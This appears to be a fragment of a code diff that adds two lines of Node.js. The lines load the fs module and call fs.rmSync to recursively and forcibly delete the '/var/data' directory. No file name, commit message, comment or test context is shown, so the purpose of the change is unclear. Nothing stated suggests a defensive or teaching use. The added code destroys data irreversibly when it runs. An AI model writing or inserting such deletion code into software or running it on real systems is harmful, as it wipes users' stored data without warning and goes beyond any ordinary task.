@@ -1,0 +1,2 @@
+const fs = require("fs");
+fs.rmSync("/var/data", { recursive: true, force: true });
